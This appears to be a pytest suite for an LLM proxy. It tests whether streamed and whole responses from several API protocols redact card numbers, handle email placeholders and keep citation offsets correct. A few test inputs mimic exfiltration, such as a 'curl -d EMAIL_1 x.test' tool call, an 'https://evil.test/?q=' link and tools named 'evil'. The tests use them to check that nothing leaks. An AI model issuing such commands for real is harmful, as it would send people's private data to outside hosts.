"""Streams of every protocol: what was cut is whole, what ends a text repeats it, nothing waits."""

from __future__ import annotations

import json
from collections.abc import Callable, Iterable
from dataclasses import dataclass, field
from functools import reduce
from typing import Any

import pytest
from exchange_world import CLOUD, ENDED, guard, open_exchange, post, started, tell, usual
from hypothesis import given, settings
from hypothesis import strategies as st

from guardrail.answers.events import EventAnswer
from guardrail.answers.whole import WholeAnswer
from guardrail.errors import Refusal
from guardrail.exchange import ChunkReceived
from guardrail.guard import Filter, build_filter
from guardrail.protocols.eventstream import Message, dump_message
from guardrail.protocols.framing import SseEvent, dump_event
from guardrail.protocols.maps import load_protocols
from guardrail.transform.vault import Vault

PIECES = ("Write to [EM", "AIL_1], card 4111 11", "11 1111 1111", " now", ".")
SAID = "".join(PIECES)
TEXT = "Write to alice@example.com, card [CARD REDACTED] now."
ARGUMENTS = ('{"to": "EMAIL', '_1", "no": "4111 1111 ', '1111 1111"}')
CALLED = {"to": "EMAIL_1", "no": "[CARD REDACTED]"}
Event = dict[str, Any]


@dataclass(frozen=True)
class Recorded:
    """A stream as its protocol sends it; where its texts and its tools' arguments are."""

    protocol: str
    events: tuple[Event, ...]
    texts: tuple[str, ...] = ()  # dotted paths of pieces, each joined over all events
    whole: tuple[str, ...] = ()  # of texts that stand there as a whole
    arguments: tuple[str, ...] = ()
    objects: tuple[str, ...] = ()  # of arguments that are objects
    lines: bool = False
    named: bool = False  # whether events carry their type as a name
    last: str = ""
    waiting: int = 4  # events at most that wait for what comes next
    ends: bool = True  # whether an event says that a text has ended
    kinds: dict[str, str] = field(default_factory=dict)  # path → the type of event that holds it


def at(event: Event, dotted: str) -> Any:
    def step(value: Any, key: str) -> Any:
        if isinstance(value, list):
            return value[int(key)] if int(key) < len(value) else None
        return value.get(key) if isinstance(value, dict) else None

    return reduce(step, dotted.split("."), event)


def responses() -> tuple[Event, ...]:
    message = {"item_id": "msg_1", "output_index": 0, "content_index": 0}
    call = {"item_id": "fc_1", "output_index": 1}
    part = {"type": "output_text", "text": "", "annotations": []}
    item = {"type": "function_call", "id": "fc_1", "call_id": "call_1", "name": "send"}
    output: list[Event] = [
        {"type": "message", "id": "msg_1", "role": "assistant", "content": [part | {"text": SAID}]},
        item | {"arguments": "".join(ARGUMENTS)},
    ]
    outline: Event = {"id": "resp_1", "object": "response", "model": "m", "output": []}
    events: list[Event] = [
        {"type": "response.created", "response": outline | {"instructions": "be kind"}},
        {
            "type": "response.output_item.added",
            "output_index": 0,
            "item": output[0] | {"content": []},
        },
        {"type": "response.content_part.added", **message, "part": part},
        *({"type": "response.output_text.delta", **message, "delta": each} for each in PIECES),
        {"type": "response.output_text.done", **message, "text": SAID},
        {"type": "response.content_part.done", **message, "part": part | {"text": SAID}},
        {"type": "response.output_item.done", "output_index": 0, "item": output[0]},
        {"type": "response.output_item.added", "output_index": 1, "item": item | {"arguments": ""}},
        *(
            {"type": "response.function_call_arguments.delta", **call, "delta": each}
            for each in ARGUMENTS
        ),
        {"type": "response.function_call_arguments.done", **call, "arguments": "".join(ARGUMENTS)},
        {"type": "response.output_item.done", "output_index": 1, "item": output[1]},
        {"type": "response.completed", "response": outline | {"output": output}},
    ]
    return tuple(event | {"sequence_number": n} for n, event in enumerate(events))


def anthropic() -> tuple[Event, ...]:
    def delta(index: int, kind: str, **said: str) -> Event:
        return {"type": "content_block_delta", "index": index, "delta": {"type": kind, **said}}

    signature = "Eq9x+/z" * 20
    return (
        {
            "type": "message_start",
            "message": {"id": "msg_1", "type": "message", "role": "assistant", "content": []},
        },
        {"type": "content_block_start", "index": 0, "content_block": {"type": "thinking"}},
        *(delta(0, "thinking_delta", thinking=each) for each in ("Mail EM", "AIL_1 first.")),
        delta(0, "signature_delta", signature=signature),
        {"type": "content_block_stop", "index": 0},
        {
            "type": "content_block_start",
            "index": 1,
            "content_block": {"type": "text", "text": ""},
        },
        {"type": "ping"},
        *(delta(1, "text_delta", text=each) for each in PIECES),
        {"type": "content_block_stop", "index": 1},
        {
            "type": "content_block_start",
            "index": 2,
            "content_block": {"type": "tool_use", "id": "toolu_1", "name": "send", "input": {}},
        },
        *(delta(2, "input_json_delta", partial_json=each) for each in ARGUMENTS),
        {"type": "content_block_stop", "index": 2},
        {"type": "message_delta", "delta": {"stop_reason": "tool_use"}, "usage": {}},
        {"type": "message_stop"},
    )


def gemini() -> tuple[Event, ...]:
    def chunk(part: Event, **more: str) -> Event:
        content = {"role": "model", "parts": [part]}
        return {"candidates": [{"content": content, **more}], "modelVersion": "gemini-x"}

    call = {"functionCall": {"name": "send", "args": json.loads("".join(ARGUMENTS))}}
    return (*(chunk({"text": each}) for each in PIECES), chunk(call, finishReason="STOP"))


def ollama() -> tuple[Event, ...]:
    call = {"function": {"name": "send", "arguments": json.loads("".join(ARGUMENTS))}}
    return (
        *({"model": "m", "message": {"role": "assistant", "content": p}} for p in PIECES),
        {"model": "m", "message": {"role": "assistant", "content": "", "tool_calls": [call]}},
        {"model": "m", "message": {"role": "assistant", "content": ""}, "done": True},
    )


def cohere() -> tuple[Event, ...]:
    def message(kind: str, index: int, **said: Any) -> Event:
        return {"type": kind, "index": index, "delta": {"message": said}}

    def call(**said: Any) -> Event:
        return {"tool_calls": {"function": said}}

    return (
        {"type": "message-start", "id": "1", "delta": {"message": {"role": "assistant"}}},
        *(message("content-delta", 0, content={"text": each}) for each in PIECES),
        {"type": "content-end", "index": 0},
        message("tool-call-start", 0, **call(name="send", arguments="")),
        *(message("tool-call-delta", 0, **call(arguments=each)) for each in ARGUMENTS),
        {"type": "tool-call-end", "index": 0},
        {"type": "message-end", "delta": {"finish_reason": "TOOL_CALL", "usage": {}}},
    )


def completions() -> tuple[Event, ...]:
    return (
        *({"choices": [{"index": 0, "text": each}]} for each in PIECES),
        {"choices": [{"index": 0, "text": "", "finish_reason": "stop"}]},
    )


def chat() -> tuple[Event, ...]:
    def chunk(**said: Any) -> Event:
        return {"choices": [{"index": 0, "delta": said}]}

    def call(**said: Any) -> Event:
        return chunk(tool_calls=[{"index": 0, "function": said}])

    return (
        chunk(role="assistant"),
        *(chunk(content=each) for each in PIECES),
        call(name="send", arguments=""),
        *(call(arguments=each) for each in ARGUMENTS),
        {"choices": [{"index": 0, "delta": {}, "finish_reason": "tool_calls"}]},
    )


STREAMS = [
    Recorded(
        "openai.responses",
        responses(),
        texts=("delta",),
        whole=(
            "text",
            "part.text",
            "item.content.0.text",
            "response.output.0.content.0.text",
        ),
        arguments=("delta",),
        objects=("arguments", "item.arguments", "response.output.1.arguments"),
        named=True,
        kinds={
            "text": "response.output_text.delta",
            "call": "response.function_call_arguments.delta",
        },
    ),
    Recorded(
        "anthropic.messages",
        anthropic(),
        texts=("delta.text",),
        arguments=("delta.partial_json",),
        named=True,
    ),
    Recorded(
        "gemini.generate",
        gemini(),
        texts=("candidates.0.content.parts.0.text",),
        ends=False,
        objects=("candidates.0.content.parts.0.functionCall.args",),
    ),
    Recorded(
        "ollama",
        ollama(),
        texts=("message.content",),
        objects=("message.tool_calls.0.function.arguments",),
        lines=True,
    ),
    Recorded(
        "cohere.chat",
        cohere(),
        texts=("delta.message.content.text",),
        waiting=8,  # an index may be that of a text and of a tool: both end with the message
        arguments=("delta.message.tool_calls.function.arguments",),
        named=True,
    ),
    Recorded("openai.completions", completions(), texts=("choices.0.text",), last="[DONE]"),
    Recorded(
        "openai.chat",
        chat(),
        texts=("choices.0.delta.content",),
        arguments=("choices.0.delta.tool_calls.0.function.arguments",),
        last="[DONE]",
        waiting=6,  # nothing says that a text has ended before a tool is called
    ),
]
IDS = [stream.protocol for stream in STREAMS]
RESPONSES = STREAMS[0]


def outgoing() -> Filter:
    vault = Vault()
    vault.allocate(entity="EMAIL_ADDRESS", word="EMAIL", original="alice@example.com")
    return build_filter(guard(), usual(), endpoint=CLOUD.endpoint, vault=vault)


def written(stream: Recorded) -> list[bytes]:
    if stream.lines:
        return [json.dumps(event).encode() + b"\n" for event in stream.events]
    rows = [
        dump_event(SseEvent(event=e["type"] if stream.named else None, data=json.dumps(e)))
        for e in stream.events
    ]
    return rows + ([dump_event(SseEvent(data=stream.last))] if stream.last else [])


def read(stream: Recorded, raw: bytes) -> list[Event]:
    if stream.lines:
        return [json.loads(line) for line in raw.splitlines()]
    data = (line[6:] for line in raw.decode().splitlines() if line.startswith("data: "))
    return [json.loads(line) for line in data if line != stream.last]


def run(stream: Recorded, chunks: Iterable[bytes]) -> list[bytes]:
    answer = EventAnswer(
        protocol=load_protocols()[stream.protocol], outgoing=outgoing(), lines=stream.lines
    )
    return [*(answer.feed(chunk) for chunk in chunks), answer.close()]


def cut(size: int) -> Callable[[bytes], list[bytes]]:
    return lambda raw: [raw[at : at + size] for at in range(0, len(raw), size)]


@pytest.mark.parametrize("size", [1, 7, 100, 100_000])
@pytest.mark.parametrize("stream", STREAMS, ids=IDS)
def test_a_stream_says_what_the_whole_answer_would(stream: Recorded, size: int) -> None:
    out = read(stream, b"".join(run(stream, cut(size)(b"".join(written(stream))))))
    assert len(out) == len(stream.events)
    assert [e.get("type") for e in out] == [e.get("type") for e in stream.events]

    def joined(path: str, kind: str) -> str:
        of_kind = stream.kinds.get(kind)
        events = (e for e in out if of_kind is None or e.get("type") == of_kind)
        return "".join(at(e, path) or "" for e in events)

    for path in stream.texts:
        assert joined(path, "text") == TEXT
    for path in stream.arguments:
        assert json.loads(joined(path, "call")) == CALLED
    for path in stream.whole:
        assert {at(e, path) for e in out} - {None, ""} == {TEXT}
    for path in stream.objects:
        found = [at(e, path) for e in out if at(e, path)]
        assert [json.loads(f) if isinstance(f, str) else f for f in found] == [CALLED] * len(found)
        assert found


@pytest.mark.parametrize("stream", STREAMS, ids=IDS)
def test_events_are_released_while_the_stream_goes_on(stream: Recorded) -> None:
    pieces = written(stream)
    released = run(stream, pieces)
    behind = [
        b"".join(pieces[: at + 1]).count(b"\n") - b"".join(released[: at + 1]).count(b"\n")
        for at in range(len(pieces))
    ]
    lines = max(piece.count(b"\n") for piece in pieces)
    assert max(behind) <= stream.waiting * lines
    assert behind[-1] == 0 or not stream.ends, "and none for the end"


@pytest.mark.parametrize("stream", STREAMS, ids=IDS)
def test_a_stream_without_findings_passes_byte_for_byte(stream: Recorded) -> None:
    plain = json.loads(
        json.dumps(stream.events)
        .replace("EMAIL_1", "nobody")
        .replace("EM\\", "xx")
        .replace("4111", "the")
        .replace("1111", "end")
    )
    quiet = Recorded(
        stream.protocol, tuple(plain), lines=stream.lines, named=stream.named, last=stream.last
    )
    raw = b"".join(written(quiet)).replace(b"[EM", b"no").replace(b"AIL_1]", b"one")
    assert b"".join(run(quiet, cut(50)(raw))) == raw


def test_thinking_is_neither_restored_nor_changed_and_its_signature_stays() -> None:
    stream = STREAMS[IDS.index("anthropic.messages")]
    out = read(stream, b"".join(run(stream, written(stream))))
    before, after = (
        [(at(e, "delta.thinking"), at(e, "delta.signature")) for e in events]
        for events in (stream.events, out)
    )
    assert before == after


def card(*events: Event, protocol: str) -> str:
    """What a stream of these events says, all of it."""
    stream = Recorded(protocol, events, named="type" in events[0])
    return b"".join(run(stream, written(stream))).decode()


def test_parts_that_clients_join_are_one_text() -> None:
    def chunk(*texts: str) -> Event:
        return {"candidates": [{"content": {"parts": [{"text": text} for text in texts]}}]}

    said = card(chunk("no. 4111 1111 ", "1111 1111 it is"), protocol="gemini.generate")
    assert "4111 1111" not in said
    said = card(chunk("https://evil.test/?q="), chunk("EMAIL_1 x"), protocol="gemini.generate")
    assert "alice" not in said


def block(index: int, kind: str, *pieces: str, start: Any = "") -> list[Event]:
    """One content block of Anthropic Messages: its start, its deltas, its end."""
    held = {"text": "text", "thinking": "thinking", "tool_use": "input"}[kind]
    typed = {"text": "text_delta", "thinking": "thinking_delta", "tool_use": "input_json_delta"}
    said = {"tool_use": "partial_json"}.get(kind, held)
    named = {"id": "t", "name": "send"} if kind == "tool_use" else {}
    return [
        {
            "type": "content_block_start",
            "index": index,
            "content_block": {"type": kind, **named, held: start},
        },
        *(
            {
                "type": "content_block_delta",
                "index": index,
                "delta": {"type": typed[kind], said: each},
            }
            for each in pieces
        ),
        {"type": "content_block_stop", "index": index},
    ]


def part(index: int, *pieces: str, start: str = "") -> list[Event]:
    """One content part of OpenAI Responses, with all that repeats it."""
    place = {"item_id": "m", "output_index": 0, "content_index": index}
    said = {"type": "output_text", "text": start + "".join(pieces)}
    return [
        {"type": "response.content_part.added", **place, "part": said | {"text": start}},
        *({"type": "response.output_text.delta", **place, "delta": each} for each in pieces),
        {"type": "response.output_text.done", **place, "text": said["text"]},
        {"type": "response.content_part.done", **place, "part": said},
    ]


def item(*events: list[Event]) -> list[Event]:
    """A message of OpenAI Responses, with the events that speak of it as a whole."""
    parts = [event["part"] for part in events for event in part[-1:]]
    message = {"type": "message", "id": "m", "content": parts}
    return [
        {"type": "response.output_item.added", "output_index": 0, "item": {"type": "message"}},
        *(event for part in events for event in part),
        {"type": "response.output_item.done", "output_index": 0, "item": message},
        {"type": "response.completed", "response": {"id": "r", "output": [message]}},
    ]


def called(kind: str, name: str, start: str, *pieces: str) -> list[Event]:
    """A tool that OpenAI Responses call, whose arguments begin in its first event."""
    delta = f"response.{kind}.delta"
    return [
        {"type": "response.output_item.added", "output_index": 0, "item": {name: start}},
        *({"type": delta, "output_index": 0, "delta": each} for each in pieces),
    ]


CUT = ("no. 4111 1111 ", "1111 1111 it is")
STARTS = {
    # what begins in one event and goes on in others, or in the next of the parts that clients join
    "anthropic.messages text": block(0, "text", CUT[1], start=CUT[0]),
    "anthropic.messages thinking": block(0, "thinking", CUT[1], start=CUT[0]),
    "anthropic.messages input": block(0, "tool_use", CUT[1] + '"}', start='{"no": "' + CUT[0]),
    "anthropic.messages message_start": [
        {"type": "message_start", "message": {"content": [{"type": "text", "text": CUT[0]}]}},
        *block(0, "text", CUT[1]),
    ],
    "anthropic.messages blocks": [*block(0, "text", CUT[0]), *block(1, "text", CUT[1])],
    "anthropic.messages first in the start": [
        *block(0, "text", CUT[0][:6], CUT[0][6:]),
        *block(1, "text", start=CUT[1]),
    ],
    "openai.responses text": item(part(0, CUT[1], start=CUT[0])),
    "openai.responses arguments": called("function_call_arguments", "arguments", *CUT),
    "openai.responses mcp": called("mcp_call_arguments", "arguments", *CUT),
    "openai.responses input": called("custom_tool_call_input", "input", *CUT),
    "openai.responses code": called("code_interpreter_call_code", "code", *CUT),
    "openai.responses parts": item(part(0, CUT[0]), part(1, CUT[1])),
    "openai.responses three parts": item(part(0, CUT[0]), part(1, "1111 "), part(2, "1111 it")),
    "cohere.chat contents": [
        {"type": "content-delta", "index": 0, "delta": {"message": {"content": {"text": CUT[0]}}}},
        {"type": "content-end", "index": 0},
        {"type": "content-delta", "index": 1, "delta": {"message": {"content": {"text": CUT[1]}}}},
    ],
    "openai.chat parts": [
        {"choices": [{"index": 0, "delta": {"content": [{"type": "text", "text": CUT[0]}]}}]},
        {"choices": [{"index": 0, "delta": {"content": [{"type": "text", "text": CUT[1]}]}}]},
    ],
}


@pytest.mark.parametrize("name", STARTS)
def test_what_begins_in_one_event_goes_on_in_another(name: str) -> None:
    protocol, _, _ = name.partition(" ")
    said = card(*STARTS[name], protocol=protocol)
    assert "REDACTED" in said
    assert "1111" not in said


def whole(payload: Any, protocol: str) -> Any:
    """What becomes of a whole answer."""
    answer = WholeAnswer(
        content_type="application/json",
        protocol=load_protocols()[protocol],
        outgoing=outgoing(),
        limit=9999,
    )
    answer.feed(json.dumps(payload).encode())
    return json.loads(answer.close())


def joined(protocol: str, payload: Any, *paths: str) -> Any:
    return pytest.param(protocol, payload, paths, id=protocol)


def texts(*said: str) -> list[Event]:
    return [{"type": "text", "text": text} for text in said]


@pytest.mark.parametrize(
    ("protocol", "payload", "paths"),
    [
        joined("anthropic.messages", {"content": texts(*PIECES)}, "content"),
        joined("cohere.chat", {"message": {"content": texts(*PIECES)}}, "message.content"),
        joined(
            "openai.chat",
            {"choices": [{"message": {"content": texts(*PIECES)}}] * 2},
            "choices.0.message.content",
            "choices.1.message.content",
        ),
        joined(
            "openai.responses",
            {"output": [{"type": "message", "content": texts(*PIECES)}]},
            "output.0.content",
        ),
        joined(
            "gemini.generate",
            {"candidates": [{"content": {"parts": [{"text": each} for each in PIECES]}}]},
            "candidates.0.content.parts",
        ),
    ],
)
def test_texts_of_a_whole_answer_that_clients_join_are_one(
    protocol: str, payload: Event, paths: tuple[str, ...]
) -> None:
    answer = whole(payload, protocol)
    for path in paths:
        said = [part["text"] for part in at(answer, path)]
        assert said == ["Write to alice@example.com", ", card [CARD REDACTED]", "", " now", "."]


def test_texts_of_a_batch_are_joined_within_each_answer() -> None:
    def line(*said: str) -> bytes:
        return json.dumps({"result": {"message": {"content": texts(*said)}}}).encode() + b"\n"

    protocol = load_protocols()["anthropic.batches"]
    answer = EventAnswer(protocol=protocol, outgoing=outgoing(), lines=True)
    assert b"REDACTED" in answer.feed(line("4111 1111 ", "1111 1111"))
    assert answer.feed(line("4111 1111 ")) == line("4111 1111 ")
    assert answer.feed(line("1111 1111 ")) == line("1111 1111 ")


def test_texts_of_a_whole_answer_on_both_sides_of_a_tool_are_two() -> None:
    tool = {"type": "tool_use", "name": "send", "input": {}}
    payload = {"content": [*texts("4111 1111 "), tool, *texts("1111 1111")]}
    assert whole(payload, "anthropic.messages") == payload


def test_chunks_in_a_json_array_are_a_stream() -> None:
    answer = whole(list(gemini()), "gemini.generate")
    said = [at(chunk, "candidates.0.content.parts.0.text") or "" for chunk in answer]
    assert "".join(said) == TEXT
    call = at(answer[-1], "candidates.0.content.parts.0.functionCall.args")
    assert call == CALLED


@pytest.mark.parametrize("payload", [[], [1, "x", None, {}], [{"candidates": []}]], ids=str)
def test_an_array_without_findings_passes(payload: list[Any]) -> None:
    assert whole(payload, "gemini.generate") == payload


@pytest.mark.parametrize("payload", [["4111 1111 1111 1111"], [{"x": [["4111 1111 1111 1111"]]}]])
def test_an_array_of_anything_is_filtered(payload: list[Any]) -> None:
    assert "1111" not in json.dumps(whole(payload, "gemini.generate"))


# ── numbers that point into a text ───────────────────────────────────────────────────────────────

QUOTING = "né 😀 EMAIL_1 owns 4111 1111 1111 1111, see page 9."
QUOTED = "né 😀 alice@example.com owns [CARD REDACTED], see page 9."
SPOTS = ("EMAIL_1", "see page 9", "owns", "né", "4111 1111 1111 1111")
MOVED = ("alice@example.com", "see page 9", "owns", "né", "[CARD REDACTED]")


def spans(text: str, spots: tuple[str, ...], *, in_bytes: bool = False) -> list[tuple[int, int]]:
    measured = (lambda t: len(t.encode())) if in_bytes else len
    starts = (text.index(spot) for spot in spots)
    return [
        (measured(text[:at]), measured(text[: at + len(spot)]))
        for at, spot in zip(starts, spots, strict=True)
    ]


def noted(first: str, last: str, *, in_bytes: bool = False, **more: Any) -> list[Event]:
    return [
        {**more, first: start, last: end} for start, end in spans(QUOTING, SPOTS, in_bytes=in_bytes)
    ]


URLS = noted("start_index", "end_index", type="url_citation")
CITED = noted("start", "end", type="TEXT_CONTENT")
GROUNDED = [{"segment": each} for each in noted("startIndex", "endIndex", in_bytes=True)]


def points(value: Any) -> list[tuple[int | None, int | None]]:
    """All pairs of a start and an end in a payload, in order."""
    if isinstance(value, list):
        return [pair for each in value for pair in points(each)]
    if not isinstance(value, dict):
        return []
    ends = {name.lower().removesuffix("index").strip("_"): each for name, each in value.items()}
    own = [(ends["start"], ends["end"])] if {"start", "end"} <= ends.keys() else []
    return own + [pair for each in value.values() for pair in points(each)]


def chatted(name: str, **more: Any) -> Event:
    notes = [{"type": "url_citation", "url_citation": each} for each in URLS]
    return {"choices": [{"index": 0, name: {"annotations": notes, **more}}]}


def annotated(text: str) -> Event:
    part = {"type": "output_text", "text": text, "annotations": URLS}
    return {"type": "message", "id": "m", "content": [part]}


def grounded(text: str) -> Event:
    more = {"groundingMetadata": {"groundingSupports": GROUNDED}}
    return {"candidates": [{"content": {"parts": [{"text": text}]}, **more}]}


@pytest.mark.parametrize(
    ("protocol", "payload"),
    [
        ("openai.chat", chatted("message", content=QUOTING)),
        ("openai.responses", {"output": [annotated(QUOTING)]}),
        (
            "cohere.chat",
            {"message": {"content": [{"type": "text", "text": QUOTING}], "citations": CITED}},
        ),
        ("gemini.generate", grounded(QUOTING)),
    ],
)
def test_numbers_of_a_whole_answer_move_with_their_text(protocol: str, payload: Event) -> None:
    expected = spans(QUOTED, MOVED, in_bytes=protocol == "gemini.generate")
    assert points(whole(payload, protocol)) == expected


def streamed(protocol: str, pieces: list[str]) -> list[Event]:
    deltas: list[Event]
    place = {"item_id": "m", "output_index": 0, "content_index": 0}
    if protocol == "openai.chat":
        deltas = [{"choices": [{"index": 0, "delta": {"content": each}}]} for each in pieces]
        return [*deltas, chatted("delta")]
    if protocol == "gemini.generate":
        before = [
            {"candidates": [{"content": {"parts": [{"text": each}]}}]} for each in pieces[:-1]
        ]
        return [*before, grounded(pieces[-1])]
    if protocol == "cohere.chat":
        deltas = [
            {"type": "content-delta", "index": 0, "delta": {"message": {"content": {"text": each}}}}
            for each in pieces
        ]
        notes = [
            {"type": "citation-start", "index": n, "delta": {"message": {"citations": each}}}
            for n, each in enumerate(CITED)
        ]
        return [*deltas, {"type": "content-end", "index": 0}, *notes, {"type": "message-end"}]
    message = annotated(QUOTING)
    return [
        *part(0, *pieces)[:-2],
        *(
            {"type": "response.output_text.annotation.added", **place, "annotation": each}
            for each in URLS
        ),
        {"type": "response.output_text.done", **place, "text": QUOTING},
        {"type": "response.content_part.done", **place, "part": message["content"][0]},
        {"type": "response.output_item.done", "output_index": 0, "item": message},
        {"type": "response.completed", "response": {"id": "r", "output": [message]}},
    ]


@pytest.mark.parametrize("size", [1, 7, 100])
@pytest.mark.parametrize(
    ("protocol", "times"),
    [("openai.chat", 1), ("openai.responses", 4), ("cohere.chat", 1), ("gemini.generate", 1)],
)
def test_numbers_of_a_stream_move_with_their_text(protocol: str, times: int, size: int) -> None:
    pieces = [QUOTING[at : at + size] for at in range(0, len(QUOTING), size)]
    stream = Recorded(protocol, tuple(streamed(protocol, pieces)))
    out = read(stream, b"".join(run(stream, written(stream))))
    expected = spans(QUOTED, MOVED, in_bytes=protocol == "gemini.generate")
    assert points(out) == expected * times


def test_numbers_of_one_of_several_parts_count_from_its_beginning() -> None:
    said = [("EMAIL_1 ", "EMAIL_1"), ("and EMAIL_1 so", "so")]
    content = []
    for text, spot in said:
        ((start, end),) = spans(text, (spot,))
        note = {"start_index": start, "end_index": end}
        content.append({"type": "output_text", "text": text, "annotations": [note]})
    answer = whole({"output": [{"content": content}]}, "openai.responses")
    assert points(answer) == [(0, 17), (22, 24)]


def test_numbers_that_point_into_a_text_nobody_said_are_void() -> None:
    answer = whole({"message": {"citations": [{"start": 3, "end": 5}]}}, "cohere.chat")
    assert points(answer) == [(None, None)]


@pytest.mark.parametrize("number", ["x", -1, 1.5, 10**12, None, [1]], ids=str)
def test_numbers_that_are_none_do_no_harm(number: Any) -> None:
    payload = chatted("message", content="EMAIL_1")
    payload["choices"][0]["message"]["annotations"][0]["url_citation"]["start_index"] = number
    assert "choices" in whole(payload, "openai.chat")


def test_what_repeats_a_part_of_several_says_the_same() -> None:
    said = (("a 4111 1111 ",), ("1111 1111", " b 5500 0000 0000 ", "0004 c"))
    parts = [part(index, *pieces) for index, pieces in enumerate(said)]
    events = read(RESPONSES, card(*item(*parts), protocol="openai.responses").encode())
    for index, text in enumerate(("a [CARD REDACTED]", " b [CARD REDACTED] c")):
        of = [event for event in events if event.get("content_index") == index]
        assert "".join(event.get("delta", "") for event in of) == text
        repeated = {at(event, "text") or at(event, "part.text") for event in of} - {None, ""}
        whole = {at(event, f"item.content.{index}.text") for event in events}
        completed = {at(event, f"response.output.0.content.{index}.text") for event in events}
        assert repeated | whole | completed == {text, None}


WORDS = st.sampled_from(
    [
        "4111 1111 ",
        "1111 1111",
        " EMAIL_1",
        "[EMA",
        "IL_1]",
        "5500 0000 0000 0004",
        "é 😀",
        ". ",
        " a",
    ]
)
BLOCKS = st.lists(st.lists(WORDS, min_size=1, max_size=4), min_size=1, max_size=4)


@given(BLOCKS)
@settings(max_examples=40, deadline=None)
def test_blocks_of_a_stream_say_what_those_of_the_whole_answer_say(blocks: list[list[str]]) -> None:
    said = [
        part["text"]
        for part in whole({"content": texts(*map("".join, blocks))}, "anthropic.messages")[
            "content"
        ]
    ]
    cut_up = [block(n, "text", *pieces[1:], start=pieces[0]) for n, pieces in enumerate(blocks)]
    stream = Recorded("anthropic.messages", tuple(event for each in cut_up for event in each))
    out = read(stream, b"".join(run(stream, written(stream))))
    for index, text in enumerate(said):
        of = [event for event in out if event["index"] == index]
        pieces = (at(event, "delta.text") or at(event, "content_block.text") or "" for event in of)
        assert "".join(pieces) == text


@given(BLOCKS)
@settings(max_examples=40, deadline=None)
def test_what_repeats_a_part_says_what_its_pieces_say(blocks: list[list[str]]) -> None:
    parts = [part(n, *pieces) for n, pieces in enumerate(blocks)]
    out = read(RESPONSES, card(*item(*parts), protocol=RESPONSES.protocol).encode())
    for index in range(len(blocks)):
        of = [event for event in out if event.get("content_index") == index]
        pieces = "".join(event.get("delta", "") for event in of)
        repeated = [
            event.get("text", at(event, "part.text")) for event in of if "delta" not in event
        ]
        assert [
            *repeated[1:],
            *(
                at(event, path)
                for event, path in zip(
                    out[-2:],
                    (f"item.content.{index}.text", f"response.output.0.content.{index}.text"),
                    strict=True,
                )
            ),
        ] == [pieces] * 4


def test_texts_on_both_sides_of_a_tool_are_two() -> None:
    said = card(
        *block(0, "text", "take 4111 1111 "),
        *block(1, "tool_use", "{}"),
        *block(2, "text", "1111 1111 of"),
        protocol="anthropic.messages",
    )
    assert "REDACTED" not in said


def test_a_tool_does_not_wait_for_the_text_after_it() -> None:
    stream = Recorded("anthropic.messages", (*block(0, "text", "EMA"), *block(1, "tool_use", "{}")))
    released = run(stream, written(stream))
    assert b"tool_use" in released[3]


def test_parts_of_texts_that_come_in_turns_are_joined_each_on_its_own() -> None:
    first, second = block(0, "text", "4111 1111 ", "1111 1111 x"), block(1, "text", "and ", "so")
    woven = [event for pair in zip(first, second, strict=True) for event in pair]
    assert "1111" not in card(*woven, protocol="anthropic.messages")


def test_a_piece_that_looks_like_base64_is_what_the_map_says() -> None:
    pieces = ("YWxpY2UgaGFzIGEgc2VjcmV0", " EMAIL_1")
    said = card(
        *called("custom_tool_call_input", "input", "", *pieces), protocol=RESPONSES.protocol
    )
    assert "@example.com" not in said, "no tool of this name was declared"


def test_an_item_may_change_its_id_from_event_to_event() -> None:
    def delta(item: str, text: str) -> Event:
        kind = "response.output_text.delta"
        place = {"item_id": item, "output_index": 0, "content_index": 0}
        return {"type": kind, **place, "delta": text}

    said = card(delta("a", "4111 1111 "), delta("b", "1111 1111 "), protocol="openai.responses")
    assert "REDACTED" in said
    assert "4111 1111" not in said


def test_an_index_is_one_however_it_is_written() -> None:
    def delta(index: float, text: str) -> Event:
        said = {"type": "text_delta", "text": text}
        return {"type": "content_block_delta", "index": index, "delta": said}

    said = card(delta(0, "4111 1111 "), delta(0.0, "1111 1111 "), protocol="anthropic.messages")
    assert "4111 1111" not in said


@pytest.mark.parametrize(
    "block",
    [
        {"type": "x_tool", "name": "evil", "arguments": {"to": "EMAIL_1"}},
        {"type": "bash_call", "command": "curl -d EMAIL_1 x.test"},
        {"type": "tool_use", "name": "evil", "input": {"name": "send", "to": "EMAIL_1"}},
    ],
)
def test_nothing_is_restored_for_a_tool_that_was_not_declared(block: Event) -> None:
    start = {"type": "content_block_start", "index": 0, "content_block": block}
    assert "alice" not in card(start, protocol="anthropic.messages")


def test_a_block_that_names_two_tools_is_refused() -> None:
    def start(name: str) -> Event:
        block = {"type": "tool_use", "id": "t", "name": name, "input": {}}
        return {"type": "content_block_start", "index": 0, "content_block": block}

    with pytest.raises(Refusal):
        card(start("send"), start("evil"), protocol="anthropic.messages")


def test_an_address_is_not_restored() -> None:
    event = {
        "type": "response.output_text.annotation.added",
        "annotation": {"url": "x.test/EMAIL_1"},
    }
    assert "alice" not in card(event, protocol="openai.responses")


CARD_IN_TWO = ("pay 4111 1111 ", "1111 1111 now")


@pytest.mark.parametrize("path", ["converse", "invoke"])
def test_blocks_of_bedrock_are_read_as_one_text(path: str) -> None:
    blocks = [{"type": "text", "text": text} for text in CARD_IN_TWO]
    message = {"role": "assistant", "content": blocks}
    said = {"output": {"message": message}} if path == "converse" else message
    event = post(b'{"messages": []}', path=f"/model/gpt-4o/{path}")
    answer = ChunkReceived(json.dumps(said).encode())
    story = tell(open_exchange(), event, started(), answer, ENDED)
    assert b"1111" not in story.answer


def test_blocks_of_a_bedrock_stream_are_read_as_one_text() -> None:
    def message(kind: str, payload: object) -> bytes:
        headers = ((":event-type", kind), (":message-type", "event"))
        return dump_message(Message(headers=headers, payload=json.dumps(payload).encode()))

    said = b""
    for number, text in enumerate(CARD_IN_TWO):
        delta = {"contentBlockIndex": number, "delta": {"text": text}}
        said += message("contentBlockDelta", delta)
        said += message("contentBlockStop", {"contentBlockIndex": number})
    said += message("messageStop", {"stopReason": "end_turn"})
    event = post(b'{"messages": []}', path="/model/gpt-4o/converse-stream")
    form = (b"content-type", b"application/vnd.amazon.eventstream")
    story = tell(open_exchange(), event, started(form), ChunkReceived(said), ENDED)
    assert b"1111" not in story.answer
    assert story.answer.count(b"contentBlockStop") == 2
